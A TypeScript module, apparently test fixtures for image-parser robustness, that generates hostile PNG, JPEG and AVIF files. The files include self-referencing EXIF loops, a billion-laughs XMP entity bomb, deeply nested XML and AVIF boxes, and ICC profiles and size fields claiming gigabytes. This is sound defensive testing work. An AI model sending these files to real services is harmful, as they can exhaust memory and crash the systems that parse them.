// Pictures that lead what reads them in circles, into depth, or to more memory than they have bytes.
import { crc32, deflateSync } from 'node:zlib'

const uint16 = (value: number) => {
  const bytes = Buffer.alloc(2)
  bytes.writeUInt16BE(value)
  return bytes
}

const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))

const repeat = (times: number, part: (index: number) => Buffer) =>
  join(...Array.from({ length: times }, (_, i) => part(i)))

function chunk(type: string, content: Buffer): Buffer {
  const checked = join(type, content)
  return join(uint32(content.length), checked, uint32(crc32(checked)))
}

/** A PNG of this size that is transparent; `more` are further chunks. */
function png(width: number, height: number, more: Buffer = Buffer.alloc(0)): Buffer {
  const header = chunk('IHDR', join(uint32(width), uint32(height), '\x08\x06\0\0\0'))
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc((width * 4 + 1) * height), { level: 1 }))
  return join('\x89PNG\r\n\x1a\n', header, more, pixels, chunk('IEND', Buffer.alloc(0)))
}

const segment = (marker: string, content: Buffer) => join('\xff', marker, uint16(content.length + 2), content)
const jpeg = (content: Buffer) => join('\xff\xd8', content, '\xff\xd9')

const field = (tag: number, type: number, count: number, value: number) =>
  join(uint16(tag), uint16(type), uint32(count), uint32(value))

const exif = (fields: Buffer, next = 0) =>
  segment('\xe1', join('Exif\0\0', 'MM\0*', uint32(8), uint16(fields.length / 12), fields, uint32(next)))

const xmp = (text: string) => segment('\xe1', join('http://ns.adobe.com/xap/1.0/\0', text))

/** A colour profile whose tags each claim two gigabytes. */
function profile(tags: number): Buffer {
  const list = repeat(tags, () => join('desc', uint32(132), uint32(0x7f_ff_ff_ff)))
  const bytes = join(Buffer.alloc(128), uint32(tags), list)
  bytes.writeUInt32BE(bytes.length)
  bytes.write('acsp', 36)
  return bytes
}

const pngProfile = (bytes: Buffer) => png(1, 1, chunk('iCCP', join('a\0\0', deflateSync(bytes))))

const box = (type: string, content: Buffer) => join(uint32(content.length + 8), type, content)

const avif = (content: Buffer) => join(box('ftyp', join('avif\0\0\0\0avifmif1')), content)

function nested(depth: number): Buffer {
  const sizes = Array.from({ length: depth }, (_, at) => join(uint32((depth - at) * 8), at % 2 ? 'ipco' : 'iprp'))
  return join(uint32(0), ...sizes)
}

/** Where the parts of items are: each of 65,535 claims as many. */
const locations = () =>
  box(
    'iloc',
    join(
      uint32(0x01_00_00_00),
      '\x44\x40',
      uint16(65_535),
      repeat(65_535, (id) => join(uint16(id), Buffer.alloc(8), uint16(65_535))),
    ),
  )

const entities = () => Array.from({ length: 20 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')

export const hostilePictures: Record<string, () => Buffer> = {
  'EXIF that leads back to itself': () => jpeg(exif(join(field(0x87_69, 4, 1, 8), field(0x88_25, 4, 1, 8)), 8)),
  'EXIF of four billion characters': () => jpeg(exif(join(field(0x01_0e, 2, 0xff_ff_ff_ff, 0)))),
  'EXIF of 5,000 long fields': () => jpeg(exif(repeat(5_000, () => field(0x01_0e, 2, 60_000, 8)))),
  'XMP of 10^20 letters': () =>
    jpeg(xmp(`<!DOCTYPE x [<!ENTITY e0 "a">${entities()}]><x><dc:creator>&e20;</dc:creator></x>`)),
  'XMP of 600,000 elements, each within the other': () => jpeg(repeat(30, () => xmp('<a>'.repeat(20_000)))),
  'a colour profile of 200 MB': () => pngProfile(Buffer.alloc(200_000_000)),
  'a colour profile of 300,000 tags': () => pngProfile(profile(300_000)),
  'a JPEG profile of 5,000 tags': () => jpeg(segment('\xe2', join('ICC_PROFILE\0\x01\x01', profile(5_000)))),
  '100,000 notes': () =>
    png(
      1,
      1,
      repeat(100_000, (at) => chunk('tEXt', join(`k${at}\0a`))),
    ),
  '81 million pixels': () => png(9_000, 9_000),
  'AVIF boxes 100,000 deep': () => avif(box('meta', nested(100_000))),
  'AVIF items of four billion parts': () => avif(box('meta', join(uint32(0), locations()))),
  'an AVIF box as long as 2^63': () => avif(join(uint32(1), 'meta', uint32(0x7f_ff_ff_ff), uint32(0xff_ff_ff_ff))),
}
